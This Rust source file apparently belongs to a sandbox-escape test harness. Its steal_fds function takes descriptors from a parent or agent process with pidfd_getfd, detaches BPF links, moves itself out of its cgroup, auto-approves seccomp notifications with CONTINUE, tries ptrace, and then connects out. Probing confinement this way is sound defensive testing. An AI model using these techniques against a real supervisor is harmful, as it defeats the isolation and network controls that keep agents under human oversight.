//! Descriptor passing and stealing: `scm-rights`, `steal-fds`.

use std::ffi::CString;
use std::fs;
use std::io::{self, Write};
use std::mem;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::path::Path;

use serde_json::{json, Value};

use crate::bpf;

use crate::args::Args;
use crate::attempt::{cvt, Attempt, Steps};
use crate::cgroup::own_cgroup;
use crate::connect::tcp_connect;
use crate::sock::sendmsg_payload_cmsg;

/// Passes a pipe's write end over a unix socketpair (stream and datagram)
/// with SCM_RIGHTS, writes through the received descriptor and reads it
/// back from the pipe.
pub(crate) fn scm_rights(steps: &mut Steps) -> Attempt {
    let mut all_ok = true;
    for (ty, name) in [(libc::SOCK_STREAM, "stream"), (libc::SOCK_DGRAM, "dgram")] {
        let a = scm_rights_once(ty);
        all_ok &= a.ok;
        steps.push(name, &a);
    }
    if all_ok {
        Attempt::success("SCM_RIGHTS over unix stream and datagram socketpairs works")
    } else {
        let bad: Vec<_> = steps
            .0
            .iter()
            .filter(|s| s["ok"] == false)
            .cloned()
            .collect();
        Attempt {
            ok: false,
            errno: bad
                .first()
                .and_then(|s| s["errno"].as_i64())
                .map(|e| e as i32),
            detail: format!("SCM_RIGHTS failed: {bad:?}"),
        }
    }
}

fn scm_rights_once(ty: libc::c_int) -> Attempt {
    let mut sv = [0; 2];
    // SAFETY: valid out array.
    if unsafe { libc::socketpair(libc::AF_UNIX, ty | libc::SOCK_CLOEXEC, 0, sv.as_mut_ptr()) } != 0
    {
        return Attempt::last_os("socketpair(AF_UNIX)");
    }
    // SAFETY: fresh descriptors we own.
    let (s0, s1) = unsafe { (OwnedFd::from_raw_fd(sv[0]), OwnedFd::from_raw_fd(sv[1])) };
    let mut p = [0; 2];
    // SAFETY: valid out array.
    if unsafe { libc::pipe2(p.as_mut_ptr(), libc::O_CLOEXEC) } != 0 {
        return Attempt::last_os("pipe2");
    }
    // SAFETY: fresh descriptors we own.
    let (pr, pw) = unsafe { (OwnedFd::from_raw_fd(p[0]), OwnedFd::from_raw_fd(p[1])) };
    if let Err(e) = sendmsg_payload_cmsg(
        s0.as_raw_fd(),
        None,
        b"fd",
        libc::SOL_SOCKET,
        libc::SCM_RIGHTS,
        &pw.as_raw_fd().to_ne_bytes(),
    ) {
        return Attempt::fail("sendmsg(SCM_RIGHTS)", &e);
    }
    drop(pw);
    let mut data = [0u8; 16];
    let mut cbuf = [0u64; 8];
    let mut iov = libc::iovec {
        iov_base: data.as_mut_ptr().cast(),
        iov_len: data.len(),
    };
    // SAFETY: all-zero msghdr is valid; fields set below.
    let mut msg: libc::msghdr = unsafe { mem::zeroed() };
    msg.msg_iov = &mut iov;
    msg.msg_iovlen = 1;
    msg.msg_control = cbuf.as_mut_ptr().cast();
    msg.msg_controllen = mem::size_of_val(&cbuf) as _;
    // SAFETY: live buffers.
    let n = unsafe { libc::recvmsg(s1.as_raw_fd(), &mut msg, libc::MSG_CMSG_CLOEXEC) };
    if n < 0 {
        return Attempt::last_os("recvmsg");
    }
    let mut got = None;
    // SAFETY: walking the control buffer the kernel filled in.
    unsafe {
        let c = libc::CMSG_FIRSTHDR(&msg);
        if !c.is_null() && (*c).cmsg_level == libc::SOL_SOCKET && (*c).cmsg_type == libc::SCM_RIGHTS
        {
            got = Some(std::ptr::read_unaligned(libc::CMSG_DATA(c) as *const i32));
        }
    }
    let Some(fd) = got else {
        return Attempt {
            ok: false,
            errno: None,
            detail: format!(
                "recvmsg: {n} bytes {:?} but no SCM_RIGHTS descriptor",
                &data[..n as usize]
            ),
        };
    };
    // SAFETY: a descriptor the kernel installed for us.
    let fd = unsafe { OwnedFd::from_raw_fd(fd) };
    if let Err(e) =
        cvt(unsafe { libc::write(fd.as_raw_fd(), b"hello".as_ptr().cast(), 5) } as libc::c_int)
    {
        return Attempt::fail("write through the received descriptor", &e);
    }
    drop(fd);
    let mut out = [0u8; 8];
    // SAFETY: valid buffer.
    let n = unsafe { libc::read(pr.as_raw_fd(), out.as_mut_ptr().cast(), out.len()) };
    if n != 5 || &out[..5] != b"hello" {
        return Attempt {
            ok: false,
            errno: None,
            detail: format!(
                "pipe read {n} bytes {:?}, expected \"hello\"",
                &out[..n.max(0) as usize]
            ),
        };
    }
    Attempt::success("passed a pipe over SCM_RIGHTS and wrote through it")
}

/// Descriptors of another process (default: our parent; under a privileged
/// agent that is the pid namespace's init, a fork of the agent; without
/// privileges it is the agent itself) taken with pidfd_getfd and used
/// (`--use links|cgroup|listener|all`): BPF links are detached; through a
/// cgroup directory, "0" is written to its ancestors' cgroup.procs; a
/// seccomp listener answers our own notifications with "continue" (from a
/// second thread). Then --target:--port is connected (--tries times).
/// Also reports whether PTRACE_SEIZE of that process works.
pub(crate) fn steal_fds(
    args: &Args,
    steps: &mut Steps,
    extra: &mut serde_json::Map<String, Value>,
) -> Attempt {
    use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
    use std::sync::Arc;
    let sa = args.target_sa();
    let use_ = args.get("use").unwrap_or("all").to_string();
    let uses = |t: &str| use_ == "all" || use_ == t;
    // SAFETY: plain syscall.
    let from: i32 = args.num("from", Some(unsafe { libc::getppid() }));
    extra.insert("from".into(), json!(from));
    extra.insert(
        "from_comm".into(),
        json!(fs::read_to_string(format!("/proc/{from}/comm")).ok()),
    );
    // SAFETY: plain syscall; the result is a new fd we own.
    let pidfd = unsafe { libc::syscall(libc::SYS_pidfd_open, from, 0) };
    if pidfd < 0 {
        steps.push(
            "pidfd_open",
            &Attempt::last_os(&format!("pidfd_open({from})")),
        );
    }
    let fds: Vec<(i32, String)> = match fs::read_dir(format!("/proc/{from}/fd")) {
        Ok(rd) => rd
            .flatten()
            .filter_map(|e| {
                let n: i32 = e.file_name().to_str()?.parse().ok()?;
                let l = fs::read_link(e.path())
                    .map(|l| l.display().to_string())
                    .unwrap_or_default();
                Some((n, l))
            })
            .collect(),
        Err(e) => {
            steps.push(
                "list-fds",
                &Attempt::fail(&format!("list /proc/{from}/fd"), &e),
            );
            // Blind: try the first 64 descriptors.
            (0..64).map(|n| (n, String::new())).collect()
        }
    };
    let mut stolen = Vec::new();
    let mut listeners = Vec::new();
    if pidfd >= 0 {
        for (n, link) in &fds {
            // SAFETY: plain syscall; the result is a new fd we own.
            let fd = unsafe { libc::syscall(libc::SYS_pidfd_getfd, pidfd as i32, *n, 0) };
            if fd < 0 {
                let e = io::Error::last_os_error();
                if !link.is_empty() || e.raw_os_error() != Some(libc::EBADF) {
                    steps.push(
                        &format!("getfd {n} {link}"),
                        &Attempt::fail("pidfd_getfd", &e),
                    );
                }
                continue;
            }
            let fd = fd as i32;
            let what = fs::read_link(format!("/proc/self/fd/{fd}"))
                .map(|l| l.display().to_string())
                .unwrap_or_default();
            steps.push(
                &format!("getfd {n}"),
                &Attempt::success(format!("got {what} as fd {fd}")),
            );
            stolen.push(what.clone());
            if uses("links") && (what.contains("bpf-link") || what.contains("bpf_link")) {
                let mut d = bpf::Attr::new();
                d.u32_at(0, fd as u32);
                steps.push(
                    &format!("link-detach {n}"),
                    &match bpf::sys(bpf::BPF_LINK_DETACH, &mut d) {
                        Ok(_) => Attempt::success("detached a stolen BPF link"),
                        Err(e) => Attempt::fail("BPF_LINK_DETACH", &e),
                    },
                );
            }
            if uses("listener") && what.contains("seccomp") {
                listeners.push(fd);
            }
            if uses("cgroup")
                && what.starts_with('/')
                && Path::new(&format!("/proc/self/fd/{fd}")).is_dir()
            {
                // A directory of the agent's: if it is a cgroup, its
                // ancestors' cgroup.procs are reachable through it even
                // though every cgroup mount is hidden by path.
                for rel in ["../../cgroup.procs", "../cgroup.procs"] {
                    let Ok(c) = CString::new(rel) else { continue };
                    // SAFETY: valid dirfd and C string.
                    let f =
                        unsafe { libc::openat(fd, c.as_ptr(), libc::O_WRONLY | libc::O_CLOEXEC) };
                    if f < 0 {
                        let e = io::Error::last_os_error();
                        if e.raw_os_error() != Some(libc::ENOENT) {
                            steps.push(
                                &format!("move-via {what}/{rel}"),
                                &Attempt::fail("openat", &e),
                            );
                        }
                        continue;
                    }
                    // SAFETY: a descriptor we just opened.
                    let mut f = unsafe { fs::File::from_raw_fd(f) };
                    steps.push(
                        &format!("move-via {what}/{rel}"),
                        &match f.write_all(b"0") {
                            Ok(()) => Attempt::success(format!("wrote \"0\" to {what}/{rel}")),
                            Err(e) => Attempt::fail("write", &e),
                        },
                    );
                }
            }
        }
    }
    extra.insert("stolen".into(), json!(stolen));
    extra.insert("cgroup_after".into(), json!(own_cgroup()));
    // SAFETY: ptrace(SEIZE) then DETACH of one pid; informational.
    let seized = unsafe { libc::ptrace(libc::PTRACE_SEIZE, from, 0, 0) } == 0;
    steps.push(
        "ptrace-seize",
        &if seized {
            // SAFETY: detaching the tracee we just seized.
            unsafe { libc::ptrace(libc::PTRACE_DETACH, from, 0, 0) };
            Attempt::success(format!("PTRACE_SEIZE of {from} succeeded"))
        } else {
            Attempt::last_os(&format!("PTRACE_SEIZE {from}"))
        },
    );
    // Answer our own notifications with CONTINUE from other threads.
    let stop = Arc::new(AtomicBool::new(false));
    let answered = Arc::new(AtomicU64::new(0));
    let mut helpers = Vec::new();
    for &l in &listeners {
        let (stop, answered) = (stop.clone(), answered.clone());
        helpers.push(std::thread::spawn(move || {
            const CONTINUE: u32 = 1;
            while !stop.load(Ordering::Relaxed) {
                let mut p = libc::pollfd {
                    fd: l,
                    events: libc::POLLIN,
                    revents: 0,
                };
                // SAFETY: one valid pollfd.
                if unsafe { libc::poll(&mut p, 1, 50) } <= 0 {
                    continue;
                }
                // SAFETY: zeroed notification struct as the ioctl expects.
                let mut n: libc::seccomp_notif = unsafe { mem::zeroed() };
                // SAFETY: valid fd and out struct.
                if unsafe { libc::ioctl(l, libc::SECCOMP_IOCTL_NOTIF_RECV, &mut n) } != 0 {
                    continue;
                }
                let mut resp = libc::seccomp_notif_resp {
                    id: n.id,
                    val: 0,
                    error: 0,
                    flags: CONTINUE,
                };
                // SAFETY: valid fd and response struct.
                if unsafe { libc::ioctl(l, libc::SECCOMP_IOCTL_NOTIF_SEND, &mut resp) } == 0 {
                    answered.fetch_add(1, Ordering::Relaxed);
                }
            }
        }));
    }
    let tries: usize = args.num("tries", Some(if listeners.is_empty() { 1 } else { 40 }));
    let mut last = Attempt::success("no attempt");
    for _ in 0..tries {
        last = tcp_connect(sa, 0);
        if last.ok {
            break;
        }
    }
    stop.store(true, Ordering::Relaxed);
    for h in helpers {
        let _ = h.join();
    }
    extra.insert(
        "answered_with_continue".into(),
        json!(answered.load(Ordering::Relaxed)),
    );
    last
}
